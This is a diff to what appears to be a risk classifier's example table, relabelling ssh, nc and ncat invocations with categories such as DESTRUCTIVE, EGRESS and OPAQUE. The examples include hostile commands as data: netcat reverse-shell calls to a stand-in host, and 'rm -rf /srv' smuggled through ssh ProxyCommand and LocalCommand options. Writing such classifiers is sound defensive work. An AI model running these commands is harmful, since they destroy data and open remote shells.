@@ -448,9 +448,9 @@ SSH = command(
         example("ssh -A web-1 uptime", MUTATION, REMOTE_READ),
         example("ssh -E log web-1 uptime", REMOTE_READ, WRITES),
         example("ssh -F /tmp/c web-1 uptime", OPAQUE, REMOTE_READ),
-        example("ssh -I /tmp/x.so web-1 uptime", OPAQUE, REMOTE_READ),
-        example("ssh -oProxyCommand='rm -rf /srv' web-1 uptime", DESTRUCTIVE, REMOTE_READ),
-        example("ssh -o 'LocalCommand rm -rf /srv' web-1 uptime", DESTRUCTIVE, REMOTE_READ),
+        example("ssh -I /tmp/x.so web-1 uptime", MUTATION, OPAQUE, REMOTE_READ),
+        example("ssh -oProxyCommand='rm -rf /srv' web-1 uptime", DESTRUCTIVE, MUTATION, REMOTE_READ),
+        example("ssh -o 'LocalCommand rm -rf /srv' web-1 uptime", DESTRUCTIVE, MUTATION, REMOTE_READ),
         example("ssh -G web-1"),
     ),
 )
@@ -689,7 +689,7 @@ NETCAT = command(
         example("nc -zv db-1 5432", REMOTE_READ),
         example("nc x.example 4444", EGRESS),
         example("nc -lvnp 4444", EGRESS),
-        example("nc -e /bin/sh x.example 4444", EGRESS, OPAQUE),
+        example("nc -e /tmp/x x.example 4444", EGRESS, OPAQUE),
         example("nc -c 'rm -rf /srv' x.example 4444", DESTRUCTIVE, EGRESS),
     ),
 )
@@ -717,7 +717,7 @@ NCAT = command(
     ),
     examples=(
         example("ncat --ssl x.example 443", EGRESS),
-        example("ncat -l 8080 -k -e /bin/cat", EGRESS, OPAQUE),
+        example("ncat -l 8080 -k -e /bin/cat", EGRESS),
         example("ncat -c 'rm -rf /srv' x.example 1", DESTRUCTIVE, EGRESS),
         example("ncat -o dump x.example 1", EGRESS, WRITES),
         example("ncat -z db-1 5432", REMOTE_READ),
